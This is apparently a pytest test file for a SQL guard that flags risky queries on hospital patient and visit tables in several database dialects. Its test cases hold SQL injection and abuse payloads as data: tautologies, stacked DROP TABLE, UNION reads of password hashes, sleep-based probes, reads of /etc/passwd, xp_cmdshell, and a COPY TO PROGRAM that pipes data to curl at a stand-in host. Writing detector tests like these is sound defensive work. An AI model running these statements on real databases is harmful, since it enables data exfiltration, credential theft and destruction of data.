"""Every SQL guard rule on positive and negative statements, in each dialect."""

from __future__ import annotations

from typing import ClassVar

import pytest

pytest.importorskip("sqlglot")

from medguard.audit.sql import DIALECTS, RULES, check, fingerprint
from medguard.errors import InvalidArgument

ALL = DIALECTS

# (rule, dialects, statement that hits it, close statement that does not)
CASES: list[tuple[str, tuple[str, ...], str, str]] = [
    ("CLA.014", ALL, "DELETE FROM visits", "DELETE FROM visits WHERE visit_id = 7"),
    ("CLA.014", ALL, "DELETE FROM visits WHERE 1 = 1", "DELETE FROM visits WHERE 1 = visit_id"),
    ("CLA.014", ALL, "DELETE FROM visits WHERE 'a' = 'a'", "DELETE FROM visits WHERE dept = 'a'"),
    (
        "CLA.015",
        ALL,
        "UPDATE visits SET dept = 'x'",
        "UPDATE visits SET dept = 'x' WHERE visit_id = 3",
    ),
    (
        "CLA.015",
        ALL,
        "UPDATE visits SET dept = 'x' WHERE 2 > 1",
        "UPDATE visits SET dept = 'x' WHERE 2 > visit_id",
    ),
    (
        "CLA.001",
        ALL,
        "SELECT name, phone FROM patients",
        "SELECT name, phone FROM patients WHERE dept = 'x'",
    ),
    ("CLA.001", ALL, "SELECT name FROM patients", "SELECT COUNT(*) FROM patients"),
    (
        "COL.001",
        ALL,
        "SELECT * FROM patients WHERE dept = 'x'",
        "SELECT dept FROM patients WHERE dept = 'x'",
    ),
    (
        "COL.001",
        ALL,
        "SELECT * FROM patients WHERE dept = 'x'",
        "SELECT * FROM drug_catalogue WHERE atc = 'x'",
    ),
    (
        "RES.007",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 1 OR 1 = 1",
        "SELECT dept FROM visits WHERE visit_id = 1 OR visit_id = 2",
    ),
    (
        "RES.007",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 1 OR '1' = '1'",
        "SELECT dept FROM visits WHERE visit_id = 1 OR '1' = '2'",
    ),
    (
        "RES.007",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 'x' OR 'a' = 'a'",
        "SELECT dept FROM visits WHERE visit_id = 'x' AND 'a' = 'a'",
    ),
    (
        "RES.007",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 1 OR 2 > 1",
        "SELECT dept FROM visits WHERE visit_id = 1 OR 1 > 2",
    ),
    ("SEC.001", ALL, "TRUNCATE TABLE visits", "SELECT dept FROM visits WHERE visit_id = 1"),
    ("SEC.003", ALL, "DROP TABLE visits", "CREATE TABLE visits_copy (dept VARCHAR(10))"),
    ("SEC.003", ("mysql", "postgres", "hive", "tsql"), "DROP DATABASE his", "CREATE DATABASE his2"),
    (
        "ALT.003",
        ("mysql", "postgres", "oracle", "tsql"),
        "ALTER TABLE visits DROP COLUMN dept",
        "ALTER TABLE visits ADD dept2 VARCHAR(10)",
    ),
    (
        "MG.SEC.001",
        ("postgres", "oracle", "tsql", "mysql", "hive"),
        "GRANT SELECT ON visits TO analyst",
        "SELECT dept FROM visits WHERE visit_id = 1",
    ),
    (
        "MG.SEC.001",
        ("postgres", "mysql"),
        "REVOKE SELECT ON visits FROM analyst",
        "SELECT dept FROM visits WHERE visit_id = 1",
    ),
    (
        "MG.SEC.002",
        ("postgres", "oracle", "tsql", "mysql"),
        "GRANT SELECT ON visits TO PUBLIC",
        "GRANT SELECT ON visits TO analyst",
    ),
    (
        "MG.INJ.001",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 1; DROP TABLE visits",
        "SELECT dept FROM visits WHERE visit_id = 1;",
    ),
    (
        "MG.INJ.002",
        ("mysql", "postgres", "tsql", "hive"),
        "SELECT dept FROM visits WHERE visit_id = 1 "
        "UNION SELECT table_name FROM information_schema.tables",
        "SELECT dept FROM visits WHERE visit_id = 1 "
        "UNION SELECT dept FROM archive WHERE visit_id = 1",
    ),
    (
        "MG.INJ.002",
        ("mysql",),
        "SELECT dept FROM visits UNION SELECT authentication_string FROM mysql.user",
        "SELECT table_name FROM information_schema.tables",
    ),
    (
        "MG.INJ.002",
        ("postgres",),
        "SELECT dept FROM visits UNION SELECT passwd FROM pg_shadow",
        "SELECT dept FROM visits UNION SELECT dept FROM visits_2023",
    ),
    (
        "MG.INJ.002",
        ("postgres",),
        "SELECT dept FROM visits UNION SELECT relname FROM pg_catalog.pg_class",
        "SELECT relname FROM pg_catalog.pg_class",
    ),
    (
        "MG.INJ.002",
        ("oracle",),
        "SELECT dept FROM visits UNION SELECT username FROM all_users",
        "SELECT dept FROM visits UNION SELECT dept FROM visits_old",
    ),
    (
        "MG.INJ.002",
        ("oracle",),
        "SELECT dept FROM visits UNION SELECT password FROM dba_users",
        "SELECT dept FROM visits WHERE visit_id = 2",
    ),
    (
        "MG.INJ.002",
        ("tsql",),
        "SELECT dept FROM visits UNION SELECT name FROM sys.sql_logins",
        "SELECT dept FROM visits UNION SELECT dept FROM dbo.visits_old",
    ),
    (
        "SEC.004",
        ("mysql",),
        "SELECT dept FROM visits WHERE visit_id = 1 AND SLEEP(5)",
        "SELECT dept FROM visits WHERE visit_id = 1 AND sleep_hours > 5",
    ),
    ("SEC.004", ("mysql",), "SELECT BENCHMARK(1000000, MD5('a'))", "SELECT MD5('a')"),
    (
        "SEC.004",
        ("postgres",),
        "SELECT dept FROM visits WHERE visit_id = 1 AND pg_sleep(5) IS NULL",
        "SELECT dept FROM visits WHERE visit_id = 1",
    ),
    ("SEC.004", ("tsql",), "WAITFOR DELAY '0:0:5'", "SELECT 'WAITFOR DELAY'"),
    ("SEC.004", ("oracle",), "SELECT DBMS_LOCK.SLEEP(5) FROM dual", "SELECT sysdate FROM dual"),
    (
        "RES.008",
        ("mysql",),
        "SELECT dept FROM visits INTO OUTFILE '/tmp/v.csv'",
        "SELECT dept FROM visits WHERE visit_id = 1",
    ),
    (
        "RES.008",
        ("mysql",),
        "SELECT dept FROM visits INTO DUMPFILE '/tmp/v'",
        "SELECT 'into outfile' FROM visits WHERE visit_id = 1",
    ),
    (
        "RES.008",
        ("mysql", "hive"),
        "LOAD DATA INFILE '/tmp/v.csv' INTO TABLE visits",
        "INSERT INTO visits (dept) VALUES ('load data')",
    ),
    ("MG.SEC.003", ("mysql",), "SELECT LOAD_FILE('/etc/passwd')", "SELECT LENGTH('/etc/passwd')"),
    ("MG.SEC.003", ("postgres",), "COPY visits TO '/tmp/visits.csv'", "COPY visits TO STDOUT"),
    ("MG.SEC.003", ("postgres",), "SELECT pg_read_file('/etc/passwd')", "SELECT 'pg_read_file'"),
    (
        "MG.SEC.003",
        ("oracle",),
        "SELECT UTL_FILE.FOPEN('DIR', 'f.txt', 'r') FROM dual",
        "SELECT 'utl_file' FROM dual",
    ),
    (
        "MG.SEC.004",
        ("postgres",),
        "COPY visits TO PROGRAM 'curl -d @- http://x'",
        "COPY visits TO STDOUT",
    ),
    ("MG.SEC.004", ("tsql",), "EXEC xp_cmdshell 'dir'", "EXEC dbo.refresh_stats"),
    (
        "MG.INJ.003",
        ("mysql",),
        "SELECT dept FROM visits WHERE visit_id = 1 -- AND tenant = 2",
        "SELECT dept FROM visits WHERE visit_id = 1 -- lookup by visit",
    ),
    (
        "MG.INJ.003",
        ("mysql",),
        "SELECT dept FROM visits WHERE visit_id = 1 # AND tenant = 2",
        "/* app=his */ SELECT dept FROM visits WHERE visit_id = 1",
    ),
    (
        "MG.INJ.003",
        ALL,
        "SELECT dept FROM visits WHERE visit_id = 1 /* AND tenant = 2 */",
        "SELECT dept FROM visits WHERE visit_id = 1 /* hint: by visit */",
    ),
    (
        "MG.INJ.003",
        ("postgres", "oracle", "tsql", "hive"),
        "SELECT dept FROM visits WHERE visit_id = 1 -- AND tenant = 2",
        "-- tenant 2\nSELECT dept FROM visits WHERE visit_id = 1",
    ),
    (
        "MG.PII.001",
        ALL,
        "SELECT name, id_no FROM patients WHERE dept = 'x'",
        "SELECT name, id_no FROM patients WHERE patient_id = 7",
    ),
    (
        "MG.PII.001",
        ALL,
        "SELECT phone FROM patients WHERE dept = 'x'",
        "SELECT phone FROM patients WHERE dept = 'x' LIMIT 1",
    ),
    (
        "parse-error",
        ALL,
        "SELEC name FRM patients",
        "SELECT name FROM patients WHERE patient_id = 1",
    ),
    (
        "parse-error",
        ALL,
        "SELECT dept FROM visits WHERE dept = 'unclosed",
        "SELECT dept FROM visits WHERE dept = 'closed' AND visit_id = 2",
    ),
]

PARAMS = [
    pytest.param(rule, dialect, hit, miss, id=f"{rule}-{dialect}-{i}")
    for i, (rule, dialects, hit, miss) in enumerate(CASES)
    for dialect in dialects
]


def _limit(statement: str, dialect: str) -> str:
    """LIMIT n written as the dialect writes it (TOP n, FETCH FIRST n ROWS ONLY)."""
    if " LIMIT " not in statement or dialect not in ("tsql", "oracle"):
        return statement
    head, _, n = statement.rpartition(" LIMIT ")
    if dialect == "tsql":
        return head.replace("SELECT ", f"SELECT TOP {n} ", 1)
    return f"{head} FETCH FIRST {n} ROWS ONLY"


@pytest.mark.parametrize(("rule", "dialect", "hit", "miss"), PARAMS)
def test_rule_hits_and_misses(rule: str, dialect: str, hit: str, miss: str) -> None:
    """The rule flags the positive statement and not the negative one, in this dialect."""
    assert rule in {f.rule for f in check(_limit(hit, dialect), dialect)}
    assert rule not in {f.rule for f in check(_limit(miss, dialect), dialect)}


def test_every_rule_is_tested() -> None:
    """Each rule of the catalogue has a case in the table."""
    assert {rule for rule, *_ in CASES} == set(RULES)


@pytest.mark.parametrize("dialect", ALL)
def test_clean_lookup_passes(dialect: str) -> None:
    """A single-patient lookup of named columns has no finding at all."""
    assert check("SELECT visit_date, dept FROM visits WHERE patient_id = 42", dialect) == []


@pytest.mark.parametrize(
    "text",
    [
        "SELEC * FROM t",
        "SELECT * FROM t WHERE a = 'x' /* unterminated",
        "SELECT (1",
        "DELETE visits visits visits",
        "\x00\x01 garbage ;;; ))",
        "FLUSH PRIVILEGES",
    ],
)
def test_unparsable_fails_closed(text: str) -> None:
    """What does not parse (or parses only as an opaque Command) is a high finding, never a pass."""
    findings = check(text, "mysql")
    assert findings, text
    assert any(f.rule == "parse-error" and f.severity == "high" for f in findings)


def test_parse_error_is_per_statement() -> None:
    """A bad second statement is named by its index; the good first one is still checked."""
    findings = check("DELETE FROM visits; SELECT (", "mysql")
    by_rule = {f.rule: f.statement for f in findings}
    assert by_rule["CLA.014"] == 0
    assert by_rule["parse-error"] == 1
    assert by_rule["MG.INJ.001"] == 1


def test_findings_hold_no_literal() -> None:
    """Messages, tables, columns and fingerprints never carry a literal of the statement."""
    secret = "110105194912310021"
    text = f"SELECT name FROM patients WHERE id_no = '{secret}' OR '1'='1'"
    for f in check(text, "mysql"):
        assert secret not in repr(f)
        assert secret not in str(f.to_dict())
    assert fingerprint(text) == fingerprint(text.replace(secret, "220102198001010012"))
    assert fingerprint(text) != fingerprint(text.replace("name", "phone"))


def test_grading() -> None:
    """Each finding carries L and S (1-4) and the band of R = L x S."""
    (f,) = check("DELETE FROM visits")
    assert (f.likelihood, f.impact, f.risk, f.severity) == (3, 4, 12, "high")
    assert {r.band for r in RULES.values()} <= {"low", "medium", "high", "very high"}
    assert f.to_dict()["risk"] == 12


def test_policy_names_fields_and_levels() -> None:
    """With a policy, a bulk read names the level >= 4 fields it reads, with their levels."""
    policy = {"outpatient": {"resident_id": 4, "diagnosis": 5, "dept": 2, "mrn": 3}}
    (f,) = [x for x in check("SELECT resident_id, diagnosis, dept FROM outpatient WHERE dept = 'x'",
                             policy=policy) if x.rule == "MG.PII.001"]  # fmt: skip
    assert f.fields == (("diagnosis", 5), ("resident_id", 4))
    assert "diagnosis (level 5)" in f.message
    assert f.impact == 4
    single = "SELECT resident_id, diagnosis FROM outpatient WHERE mrn = 'A1'"
    assert check(single, policy=policy) == []
    assert check("SELECT dept FROM outpatient WHERE dept = 'x'", policy=policy) == []


def test_policy_star_names_fields() -> None:
    """SELECT * on a table with level >= 4 fields names them from the policy."""
    policy = {"resident_id": 4, "dept": 2}
    rules = {f.rule: f for f in check("SELECT * FROM anything WHERE dept = 'x'", policy=policy)}
    assert rules["MG.PII.001"].fields == (("resident_id", 4),)
    assert "COL.001" in rules


def test_policy_object_duck_typed() -> None:
    """A Policy-like object (.fields -> .level, .subject) is read without importing lifecycle."""

    class Field:
        def __init__(self, level: int) -> None:
            self.level = level

    class P:
        fields: ClassVar[dict[str, Field]] = {
            "patient_no": Field(4),
            "diagnosis": Field(4),
            "dept": Field(2),
        }
        subject = "patient_no"
        table = "emr"

    assert check("SELECT diagnosis FROM emr WHERE patient_no = ?", policy=P()) == []
    assert [f.rule for f in check("SELECT diagnosis FROM emr WHERE dept = ?", policy=P())] == [
        "MG.PII.001"
    ]


def test_lifecycle_policy() -> None:
    """A real medguard.lifecycle.Policy works as the policy."""
    lifecycle = pytest.importorskip("medguard.lifecycle")
    policy = lifecycle.Policy.from_dict({
        "medguard_policy": 1, "dataset": "visits", "subject": "patient_id",
        "fields": {"resident_id": {"category": "personal_attribute", "level": 4,
                                   "kind": "resident_id"},
                   "dept": {"category": "medical_application", "level": 2}},
    })  # fmt: skip
    assert [f.rule for f in check("SELECT resident_id FROM visits WHERE dept = 'x'",
                                  policy=policy)] == ["MG.PII.001"]  # fmt: skip
    assert check("SELECT resident_id FROM visits WHERE patient_id = 1", policy=policy) == []


@pytest.mark.parametrize("bad", [{"t": {"c": 9}}, {"c": "high"}, 42])
def test_bad_policy(bad: object) -> None:
    """A policy that is not levels 1-5 is an InvalidArgument."""
    with pytest.raises(InvalidArgument):
        check("SELECT 1", policy=bad)


def test_bad_dialect_and_input() -> None:
    """An unknown dialect or a non-text statement is an InvalidArgument."""
    with pytest.raises(InvalidArgument, match="dialect"):
        check("SELECT 1", "db2")
    with pytest.raises(InvalidArgument):
        check(b"SELECT 1", "mysql")  # type: ignore[arg-type]
    assert check("SELECT 1", "sqlserver") == []
    assert check("SELECT 1", "postgresql") == []


def test_department_key_is_not_a_patient() -> None:
    """An equality on dept_id pins a department, not a patient: the bulk read is flagged."""
    rules = {f.rule for f in check("SELECT name, phone FROM patients WHERE dept_id = 3")}
    assert "MG.PII.001" in rules
    assert check("SELECT name, phone FROM patients WHERE id = 3") == []


def test_comment_before_where_is_not_a_cut() -> None:
    """A comment before WHERE, even one that reads like a condition, cuts nothing after WHERE."""
    text = "SELECT dept FROM visits /* and x = 1 */ WHERE visit_id = 1"
    assert "MG.INJ.003" not in {f.rule for f in check(text)}
